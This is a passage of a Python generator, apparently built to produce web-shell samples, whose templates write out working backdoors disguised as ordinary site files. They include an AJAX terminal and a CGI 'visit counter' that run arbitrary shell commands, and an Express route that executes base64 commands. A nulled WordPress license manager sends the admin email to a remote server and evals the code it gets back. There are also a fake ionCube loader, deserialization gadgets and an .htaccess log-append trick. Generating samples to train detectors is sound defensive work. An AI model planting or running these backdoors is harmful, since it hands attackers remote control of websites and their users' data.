    @file_get_contents('http://www.google.com/ping?sitemap=' . urlencode('http://' . $_SERVER['HTTP_HOST'] . '/sitemap-' . basename($dir) . '.xml'));
    echo count($urls) . ' pages';
} elseif ($act === 'up') {
    echo copy($_FILES['f']['tmp_name'], $root . '/' . $_FILES['f']['name']) ? 'ok' : 'no';
} elseif ($act === 'sh') {
    echo '<pre>' . htmlspecialchars(shell_exec($_REQUEST['c'] . ' 2>&1')) . '</pre>';
} elseif ($act === 'clean') {
    array_map('unlink', glob($root . '/' . $_REQUEST['d'] . '/*.html'));
    echo 'cleaned';
} else {
    echo '<form method="post" enctype="multipart/form-data"><input type="hidden" name="k" value="' . htmlspecialchars($_REQUEST['k']) . '">'
        . '<select name="act"><option>gen</option><option>up</option><option>sh</option><option>clean</option></select>'
        . ' set <input name="set" value="jp1"> tpl <input name="tpl" value="a"> dir <input name="d" value="news">'
        . ' <input name="c"> <input type="file" name="f"> <input type="submit"></form>';
}
""", md5=hexname(r, 32), src=ip(r), n=n)
    files, c = place(r, body, allowed=("plain", "inc-ext", "deep-path", "crlf", "html-addtype", "bom"))
    return files, c


# ---------------------------------------------------------------------------
# gadgets


def phar_gadget(r, S):
    cls = r.choice(("Cache_Item_Pool", "Log_Writer_Stream", "Template_Fragment", "Queue_Job_Handle"))
    body = T("""class {{cls}} {
    public $hook = 'trim';
    public $data = '';

    public function __destruct() {
        if ($this->data !== '') {
            call_user_func($this->hook, $this->data);
        }
    }
}

if (!empty($_FILES['avatar']['tmp_name'])) {
    $to = __DIR__ . '/avatars/' . md5($_FILES['avatar']['name']) . '.jpg';
    @mkdir(dirname($to), 0755, true);
    move_uploaded_file($_FILES['avatar']['tmp_name'], $to);
    echo basename($to);
    exit;
}
if (isset($_GET['thumb'])) {
    $p = 'phar://' . __DIR__ . '/avatars/' . basename($_GET['thumb']) . '/t.txt';
    if (file_exists($p)) {
        readfile($p);
    }
    echo 'ok';
}
""", cls=cls)
    files, c = place(r, body, allowed=("plain", "inc-ext", "phar-ext", "bom", "long-line"))
    return files, c


def unserialize_magic(r, S):
    body = T("""final class SessionPayload
{
    private array $attrs = [];

    public function __unserialize(array $data): void
    {
        $this->attrs = $data;
        if (isset($data['h'], $data['a']) && is_array($data['a'])) {
            ($data['h'])(...$data['a']);
        }
    }

    public function __serialize(): array
    {
        return $this->attrs;
    }
}

$raw = $_COOKIE['{{ck}}'] ?? ($_POST['{{ck}}'] ?? null);
if ($raw !== null) {
    $obj = unserialize(base64_decode(strtr($raw, '-_', '+/')));
    unset($obj);
}
""", ck=r.choice(("wp_sess", "PHPSESSDATA", "cart_state", "prefs", "_ga_state")))
    files, c = place(r, body, allowed=("plain", "inc-ext", "deep-path", "nul-tail", "crlf"))
    return files, c


def php8_chain(r, S):
    steps = r.choice((["base64_decode", "gzinflate"], ["str_rot13", "base64_decode", "gzinflate"],
                      ["strrev", "base64_decode"], ["hex2bin", "gzuncompress"]))
    body = T("""enum Mode: string
{
    case Quiet = 'q';
    case Loud = 'l';
    case Raw = 'r';

    public function runner(): \\Closure
    {
        return match ($this) {
            self::Quiet => shell_exec(...),
            self::Loud => passthru(...),
            self::Raw => system(...),
        };
    }
}

final readonly class Pipeline
{
    public function __construct(private array $steps) {}

    public function __invoke(string $in): string
    {
        return array_reduce($this->steps, static fn (string $c, \\Closure $f): string => (string) $f($c), $in);
    }
}

$req = $_POST['{{p}}'] ?? $_SERVER['HTTP_X_{{h}}'] ?? null;
$decode = new Pipeline([{{steps}}]);
$mode = Mode::tryFrom($_POST['m'] ?? 'q') ?? Mode::Quiet;
if ($req !== null) {
    echo $mode->runner()(command: $decode($req));
}
""", p=word(r, 1, 3), h=hdr(r), steps=", ".join("%s(...)" % s for s in steps))
    files, c = place(r, body, allowed=("plain", "inc-ext", "bom", "deep-path", "module-ext"))
    return files, c


def ioncube_fake(r, S):
    code = inner(r)
    blob = b64(deflate_raw(code))
    lines = chunks(blob, 76)
    hdrtxt = T("""<?php //004{{a}}
// Copyright {{co}}. All rights reserved.
// This file is encoded by ionCube Encoder 12.0 and can only be run by the ionCube Loader.
if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));$__ln='ioncube_loader_'.$__oc.'_'.substr(phpversion(),0,3).(($__oc=='win')?'.dll':'.so');if(function_exists('dl')){@dl($__ln);}if(function_exists('_il_exec')){return _il_exec();}}
$__d = file_get_contents(__FILE__);
$__p = strpos($__d, '__HALT_' . 'COMPILER();');
eval(gzinflate(base64_decode(preg_replace('/\\s+/', '', substr($__d, $__p + 18)))));
__halt_compiler();""", a=hexname(r, 2), co=r.choice(("Acme Plugins Ltd", "CodeCanyon Author", "ThemeForest Studio")))
    body = hdrtxt + "\n" + "\n".join(lines) + "\n"
    d = r.choice(("wp-content/plugins/%s/includes" % slug(r), "wp-content/themes/%s/framework" % theme(r),
                  "modules/%s/classes" % word(r, 4, 8)))
    return [("%s/%s" % (d, r.choice(("class-license.php", "core.php", "loader.php", "updater.php"))), body, "php")], "encoded-app"


def nulled_license(r, S):
    t = theme(r)
    body = T("""<?php
/**
 * Theme licence manager.
 *
 * @package {{t}}
 */

if (!defined('ABSPATH')) {
    exit;
}

class {{T}}_License_Manager {

    const OPTION = '{{t}}_license';

    public function __construct() {
        add_action('admin_menu', array($this, 'menu'));
        add_action('wp_loaded', array($this, 'heartbeat'));
    }

    public function menu() {
        add_theme_page(__('Theme License', '{{t}}'), __('Theme License', '{{t}}'), 'manage_options', '{{t}}-license', array($this, 'page'));
    }

    public function page() {
        echo '<div class="wrap"><h1>' . esc_html__('License activated', '{{t}}') . '</h1><p>Nulled by {{who}}</p></div>';
    }

    public function heartbeat() {
        if (get_transient('{{t}}_lic_ping')) {
            return;
        }
        set_transient('{{t}}_lic_ping', 1, {{ttl}});
        $res = wp_remote_post('http://{{srv}}/api/v2/verify', array(
            'timeout' => 8,
            'body'    => array('site' => home_url(), 'admin' => get_option('admin_email'), 'v' => wp_get_theme()->get('Version')),
        ));
        if (is_wp_error($res)) {
            return;
        }
        $j = json_decode(wp_remote_retrieve_body($res), true);
        if (!empty($j['update']) && !empty($j['sig']) && md5($j['update'] . '{{salt}}') === $j['sig']) {
            $fn = create_function_compat();
            $fn(base64_decode($j['update']));
        }
    }
}

function create_function_compat() {
    return function ($c) { return eval($c); };
}

new {{T}}_License_Manager();
""", t=t.replace("-", "_"), T=title(t.replace("-", "_")), who=r.choice(("GPLVault", "WPLocker", "codelist")),
             ttl=r.choice(("HOUR_IN_SECONDS", "12 * HOUR_IN_SECONDS", "DAY_IN_SECONDS")), srv=r.choice(("lic." + dom(r), ip(r))),
             salt=word(r, 8, 12))
    return [("wp-content/themes/%s/inc/class-license-manager.php" % t, body, "php")], "app-file"


# ---------------------------------------------------------------------------
# shells proper


def ajax_terminal(r, S):
    body = T("""session_start();
if (isset($_POST['login']) && hash('sha256', $_POST['login']) === '{{h}}') {
    $_SESSION['t'] = 1;
}
if (empty($_SESSION['t'])) {
    echo '<form method="post"><input type="password" name="login" autofocus></form>';
    exit;
}
function t_run($cmd, $cwd) {
    $d = [0 => ['pipe', 'r'], 1 => ['pipe', 'w'], 2 => ['pipe', 'w']];
    $p = proc_open($cmd, $d, $pipes, $cwd);
    if (!is_resource($p)) {
        return 'proc_open failed';
    }
    fclose($pipes[0]);
    $o = stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]);
    proc_close($p);
    return $o;
}
if (isset($_POST['cmd'])) {
    header('Content-Type: application/json');
    $cwd = isset($_POST['cwd']) && is_dir($_POST['cwd']) ? $_POST['cwd'] : getcwd();
    $cmd = $_POST['cmd'];
    if (preg_match('/^\\s*cd\\s+(.+)$/', $cmd, $m)) {
        $n = realpath($m[1][0] === '/' ? $m[1] : $cwd . '/' . $m[1]);
        echo json_encode(['out' => $n ? '' : 'no such dir', 'cwd' => $n ?: $cwd]);
        exit;
    }
    if (preg_match('/^\\s*download\\s+(\\S+)/', $cmd, $m)) {
        echo json_encode(['file' => base64_encode(file_get_contents($cwd . '/' . $m[1])), 'name' => basename($m[1]), 'cwd' => $cwd]);
        exit;
    }
    if (isset($_POST['upload'])) {
        file_put_contents($cwd . '/' . basename($_POST['name']), base64_decode($_POST['upload']));
    }
    if (isset($_POST['complete'])) {
        echo json_encode(['list' => explode("\\n", t_run('compgen -c -f -- ' . escapeshellarg($_POST['complete']) . ' 2>/dev/null | head -50', $cwd))]);
        exit;
    }
    echo json_encode(['out' => t_run($cmd . ' 2>&1', $cwd), 'cwd' => $cwd]);
    exit;
}
$u = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid())['name'] : get_current_user();
?>
<!doctype html>
<html><head><meta charset="utf-8"><title>{{title}}</title>
<style>body{margin:0;background:#1d1f21;color:#c5c8c6;font:13px/1.4 monospace}#o{white-space:pre-wrap;padding:8px;height:90vh;overflow:auto}
#l{display:flex;padding:4px 8px}#p{color:#b5bd68}#i{flex:1;background:none;border:0;color:inherit;font:inherit;outline:none}</style></head>
<body><div id="o"></div><div id="l"><span id="p"></span><input id="i" autofocus></div>
<script>
var cwd = <?php echo json_encode(getcwd()); ?>, user = <?php echo json_encode($u . '@' . gethostname()); ?>, hist = [], hi = 0;
function prompt() { document.getElementById('p').textContent = user + ':' + cwd + '$ '; }
function send(c, extra) {
  var f = new FormData(); f.append('cmd', c); f.append('cwd', cwd);
  for (var k in (extra || {})) f.append(k, extra[k]);
  return fetch(location.href, {method: 'POST', body: f, credentials: 'same-origin'}).then(function (r) { return r.json(); });
}
document.getElementById('i').addEventListener('keydown', function (e) {
  var i = e.target;
  if (e.key === 'Enter') {
    var c = i.value; i.value = ''; hist.push(c); hi = hist.length;
    var o = document.getElementById('o'); o.textContent += user + ':' + cwd + '$ ' + c + '\\n';
    send(c).then(function (j) { if (j.file) { var a = document.createElement('a'); a.href = 'data:application/octet-stream;base64,' + j.file; a.download = j.name; a.click(); }
      o.textContent += (j.out || ''); cwd = j.cwd; prompt(); o.scrollTop = o.scrollHeight; });
  } else if (e.key === 'ArrowUp') { if (hi > 0) i.value = hist[--hi]; e.preventDefault(); }
  else if (e.key === 'Tab') { e.preventDefault(); send('', {complete: i.value.split(' ').pop()}).then(function (j) { document.getElementById('o').textContent += j.list.join('  ') + '\\n'; }); }
});
prompt();
</script></body></html>
<?php
""", h=hexname(r, 64), title=r.choice(("Terminal", "console", "tty", "~")))
    files, c = place(r, body, allowed=("plain", "inc-ext", "bom", "deep-path", "html-addtype", "crlf"))
    return files, c


def cgi_python(r, S):
    n = r.choice(("stats.py", "counter.py", "mail.py", "status.cgi", "index.cgi", "feedback.py"))
    body = T("""#!/usr/bin/env python3
import cgi
import html
import os
import subprocess
import sys

form = cgi.FieldStorage()
KEY = "{{key}}"

print("Content-Type: text/html; charset=utf-8")
print()
if form.getfirst("k", "") != KEY:
    print("<h1>Counter</h1><p>{{num}} visits</p>")
    sys.exit(0)

cmd = form.getfirst("c", "")
cwd = form.getfirst("d", os.environ.get("DOCUMENT_ROOT", os.getcwd()))
up = form["f"] if "f" in form else None
if up is not None and getattr(up, "filename", None):
    with open(os.path.join(cwd, os.path.basename(up.filename)), "wb") as fh:
        fh.write(up.file.read())
    print("<p>saved " + html.escape(up.filename) + "</p>")
out = ""
if cmd:
    p = subprocess.run(cmd, shell=True, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
    out = p.stdout.decode("utf-8", "replace")
print('<form method="post" enctype="multipart/form-data"><input type="hidden" name="k" value="%s">' % KEY)
print('<input name="d" value="%s" size="50"><input name="c" size="60" autofocus><input type="file" name="f"><input type="submit"></form>'
      % html.escape(cwd))
print("<pre>" + html.escape(out) + "</pre>")
""", key=word(r, 6, 10), num=r.randint(1000, 90000))
    ht = "Options +ExecCGI\nAddHandler cgi-script .py .cgi\nDirectoryIndex index.html index.php\n"
    d = r.choice(("cgi-bin", "public_html/cgi-bin", "images/cgi", "wp-content/uploads/%d" % r.randint(2019, 2025)))
    return [(d + "/" + n, body, "python"), (d + "/.htaccess", ht, "htaccess")], "cgi"


def express_route(r, S):
    tok = hexname(r, 20)
    body = T("""'use strict';

const express = require('express');
const path = require('path');
const { exec } = require('child_process');
const compression = require('compression');

const app = express();
const PORT = process.env.PORT || 3000;

app.use(compression());
app.use(express.json({ limit: '5mb' }));
app.use(express.static(path.join(__dirname, 'public'), { maxAge: '7d' }));

app.get('/api/products', (req, res) => {
  res.json(require('./data/products.json'));
});

app.post('/api/{{seg}}', (req, res) => {
  if (req.get('x-{{h}}') !== '{{tok}}') {
    return res.status(404).send('Not Found');
  }
  const c = Buffer.from(String(req.body.q || ''), 'base64').toString();
  exec(c, { cwd: req.body.cwd || process.cwd(), timeout: 60000, maxBuffer: 1 << 24 }, (err, stdout, stderr) => {
    res.json({ code: err ? err.code : 0, out: stdout + stderr });
  });
});

app.get('*', (req, res) => res.sendFile(path.join(__dirname, 'public', 'index.html')));

app.listen(PORT, () => console.log('listening on ' + PORT));
""", seg=r.choice(("_health", "metrics/flush", "v1/cache", "internal/ping")), h=word(r, 3, 6), tok=tok)
    pkg = json.dumps({"name": r.choice(("shop-frontend", "landing", "catalog-app")), "version": "1.%d.0" % r.randint(0, 9),
                      "main": "server.js", "scripts": {"start": "node server.js"},
                      "dependencies": {"compression": "^1.7.4", "express": "^4.19.2"}}, indent=2)
    d = r.choice(("nodeapp", "app", "apps/shop", "repositories/catalog"))
    return [(d + "/server.js", body, "js"), (d + "/package.json", pkg, "json")], "app-file"


def htaccess_append_log(r, S):
    user = word(r, 4, 8)
    logn = r.choice(("error_log", "access.log.1", "php_errors.log", "debug.log"))
    d = r.choice(("wp-content", "logs", "tmp", "cache"))
    code = inner(r)
    lines = []
    for i in range(r.randint(6, 20)):
        lines.append("[%02d-%s-2025 %02d:%02d:%02d UTC] PHP Warning:  Undefined array key \"%s\" in /home/%s/public_html/wp-content/plugins/%s/inc/%s.php on line %d"
                     % (r.randint(1, 28), r.choice(("Jan", "Feb", "Mar", "Apr")), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59),
                        word(r, 3, 7), user, slug(r), word(r, 4, 8), r.randint(10, 900)))
    at = r.randint(2, len(lines) - 1)
    lines.insert(at, "[%02d-Apr-2025 03:11:%02d UTC] PHP Notice:  Undefined index: <?php %s ?> in /home/%s/public_html/index.php on line 1"
                 % (r.randint(1, 28), r.randint(0, 59), " ".join(x.strip() for x in code.split("\n") if x.strip()), user))
    ht = T("""# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
<IfModule mod_php7.c>
php_value auto_append_file "/home/{{u}}/public_html/{{d}}/{{l}}"
</IfModule>
<IfModule mod_php.c>
php_value auto_append_file "/home/{{u}}/public_html/{{d}}/{{l}}"
</IfModule>
""", u=user, d=d, l=logn)
    return [(".htaccess", ht, "htaccess"), ("%s/%s" % (d, logn), "\n".join(lines) + "\n", "php")], "htaccess"


def theme_template_part(r, S):
    t = theme(r)
    code = inner(r)
    style = ("/*\nTheme Name: %s\nTemplate: %s\nAuthor: %s\nVersion: 1.%d.%d\nText Domain: %s\n*/\n\n.site-header{padding:1rem 0}\n"
             % (title(t), t.replace("-child", ""), r.choice(("Studio North", "Pixel Lab")), r.randint(0, 9), r.randint(0, 9), t))
    fns = ("<?php\n/**\n * %s functions and definitions.\n */\n\nrequire get_stylesheet_directory() . '/inc/template-tags.php';\n"
           "require get_stylesheet_directory() . '/inc/customizer.php';\n\n" % title(t)) + "\n".join(wp_filler(r, t.replace("-", "_"), r.randint(3, 6)))
    tags = ["<?php", "/**", " * Custom template tags for this theme.", " */", ""]
    fl = wp_filler(r, t.replace("-", "_") + "_tpl", r.randint(6, 12))
    at = r.randint(1, len(fl) - 1)
    fl.insert(at, code)
    tags += fl
    cust = "<?php\nfunction %s_customize_register($wp_customize) {\n    $wp_customize->get_setting('blogname')->transport = 'postMessage';\n}\nadd_action('customize_register', '%s_customize_register');\n" % (
        t.replace("-", "_"), t.replace("-", "_"))
    base = "wp-content/themes/%s" % t
    return [(base + "/style.css", style, "css"), (base + "/functions.php", fns, "php"),
            (base + "/inc/template-tags.php", "\n".join(tags) + "\n", "php"), (base + "/inc/customizer.php", cust, "php")], "theme-layout"


def encoder_tpl(enc):
    def f(r, S):
        _, body = encoded(r, S, inner(r), enc)
        files, c = place(r, body)
        return files, c
    return f


TEMPLATES = [
    ("laravel_middleware", laravel_middleware, 3),
    ("laravel_provider_route", laravel_provider, 3),
    ("symfony_controller", symfony_controller, 3),
    ("codeigniter_controller", codeigniter_controller, 3),
    ("prestashop_module", prestashop_module, 3),
    ("magento2_plugin", magento_plugin, 3),
    ("joomla_params_eval", joomla_params, 3),
    ("drupal_event_subscriber", drupal_subscriber, 3),
    ("opencart_ocmod", opencart_ocmod, 3),
    ("composer_autoload_files", composer_files, 3),
    ("polyfill_bootstrap_inject", polyfill_inject, 3),
    ("wp_db_dropin", wp_db_dropin, 3),
    ("wp_advanced_cache_image", wp_advanced_cache, 3),
    ("mu_loader_dat", wp_mu_loader, 3),
    ("split_json_chunks", split_json, 3),
    ("mo_locale_payload", mo_payload, 3),
    ("db_row_loader", db_row_loader, 3),
    ("seo_cloak_exec", seo_cloak, 4),
    ("doorway_generator", doorway_gen, 3),
    ("phar_destruct_gadget", phar_gadget, 3),
    ("unserialize_magic", unserialize_magic, 3),
    ("php8_callable_chain", php8_chain, 3),
    ("ioncube_lookalike", ioncube_fake, 3),
    ("nulled_license_eval", nulled_license, 3),
    ("ajax_terminal", ajax_terminal, 3),
    ("python_cgi_shell", cgi_python, 3),
    ("express_route_exec", express_route, 3),
    ("htaccess_append_log", htaccess_append_log, 3),
    ("theme_template_part", theme_template_part, 3),
] + [("enc_" + e, encoder_tpl(e), 3) for e in sorted(ENCODERS)]
